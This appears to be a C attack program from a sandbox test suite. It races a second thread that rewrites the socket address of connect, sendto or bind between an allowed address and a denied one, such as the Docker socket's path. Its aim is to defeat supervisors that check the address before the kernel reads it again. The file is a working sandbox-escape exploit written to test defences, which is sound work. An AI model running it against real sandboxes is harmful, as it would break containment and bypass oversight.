/* atk-net-race tcp|udp|unix TRIES ALLOWED-ADDR DENIED-ADDR PORT - the
 * time-of-check race on connect's and sendto's address.
 *
 * unix: ALLOWED and DENIED are socket paths of the same length (PORT is
 * ignored); the swap is between a socket in the workspace and one outside
 * (the Docker socket's place).
 * bind: bind(2) to the swapped address, then listen(2); the kernel's own
 * getsockname() of every socket that listens tells whether it listens on
 * DENIED (an address other than loopback): printed as exposed=N.
 *
 * A second thread keeps rewriting the IPv4 address in the sockaddr
 * between ALLOWED (loopback) and DENIED while the main thread connects
 * (tcp) or sends a datagram (udp) to it, TRIES times.  A supervisor that
 * reads the address, allows it and lets the kernel read it again sends
 * to DENIED; one that connects on its own copy (pidfd_getfd) does not.
 * run.sh judges by the DENIED side's listener log.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include "atk.h"

struct race {
	struct sockaddr_un sun;
	char unix_allowed[108], unix_denied[108];
	int is_unix;
	struct sockaddr_in sin;
	struct in_addr allowed, denied;
	atomic_int stop;
	atomic_int started;
};

static void *flipper(void *arg)
{
	struct race *r = arg;
	volatile in_addr_t *a = &r->sin.sin_addr.s_addr;
	unsigned seed = (unsigned)getpid();
	atomic_store(&r->started, 1);
	while (r->is_unix && !atomic_load_explicit(&r->stop, memory_order_relaxed)) {
		memcpy(r->sun.sun_path, r->unix_denied, sizeof r->unix_denied);
		for (unsigned i = rand_r(&seed) % 16; i > 0; i--)
			syscall(SYS_getppid);
		memcpy(r->sun.sun_path, r->unix_allowed, sizeof r->unix_allowed);
		for (unsigned i = rand_r(&seed) % 16; i > 0; i--)
			syscall(SYS_getppid);
	}
	while (!atomic_load_explicit(&r->stop, memory_order_relaxed)) {
		*a = r->denied.s_addr;
		for (unsigned i = rand_r(&seed) % 16; i > 0; i--)
			syscall(SYS_getppid);
		*a = r->allowed.s_addr;
		for (unsigned i = rand_r(&seed) % 16; i > 0; i--)
			syscall(SYS_getppid);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc != 6)
		atk_die("usage: atk-net-race tcp|udp|unix TRIES ALLOWED DENIED PORT");
	int is_tcp = !strcmp(argv[1], "tcp");
	long tries = strtol(argv[2], NULL, 10);
	static struct race r;
	r.is_unix = !strcmp(argv[1], "unix");
	if (r.is_unix) {
		if (strlen(argv[3]) != strlen(argv[4]) || strlen(argv[3]) >= sizeof r.unix_allowed)
			atk_die("unix paths must have the same length, under 108 bytes");
		r.sun.sun_family = AF_UNIX;
		snprintf(r.unix_allowed, sizeof r.unix_allowed, "%s", argv[3]);
		snprintf(r.unix_denied, sizeof r.unix_denied, "%s", argv[4]);
		memcpy(r.sun.sun_path, r.unix_allowed, sizeof r.unix_allowed);
	} else if (inet_pton(AF_INET, argv[3], &r.allowed) != 1 || inet_pton(AF_INET, argv[4], &r.denied) != 1)
		atk_die("IPv4 addresses only");
	r.sin.sin_family = AF_INET;
	r.sin.sin_port = htons((unsigned short)strtoul(argv[5], NULL, 10));
	r.sin.sin_addr = r.allowed;
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, &r) != 0)
		atk_die("pthread_create failed");
	while (!atomic_load(&r.started))
		sched_yield();
	long ok = 0, refused = 0, exposed = 0;
	int is_bind = !strcmp(argv[1], "bind");
	for (long i = 0; i < tries; i++) {
		int fd = socket(r.is_unix ? AF_UNIX : AF_INET,
				(is_tcp || is_bind || r.is_unix ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
		if (fd < 0)
			atk_die("socket: %m");
		if (is_bind) {
			int one = 1;
			setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
			int rc = bind(fd, (struct sockaddr *)&r.sin, sizeof r.sin);
			if (rc == 0)
				rc = listen(fd, 1);
			if (rc == 0) {
				struct sockaddr_in got;
				socklen_t len = sizeof got;
				ok++;
				if (getsockname(fd, (struct sockaddr *)&got, &len) == 0 &&
				    got.sin_addr.s_addr != r.allowed.s_addr)
					exposed++;
			} else {
				refused++;
			}
			close(fd);
			continue;
		}
		int rc = r.is_unix ? connect(fd, (struct sockaddr *)&r.sun, sizeof r.sun) : is_tcp ? connect(fd, (struct sockaddr *)&r.sin, sizeof r.sin)
				: (int)sendto(fd, "CG-RACE\n", 8, 0, (struct sockaddr *)&r.sin, sizeof r.sin);
		if (rc < 0)
			refused++;
		else
			ok++;
		close(fd);
	}
	atomic_store(&r.stop, 1);
	pthread_join(t, NULL);
	printf("tries=%ld ok=%ld refused=%ld exposed=%ld\n", tries, ok, refused, exposed);
	return 0;
}
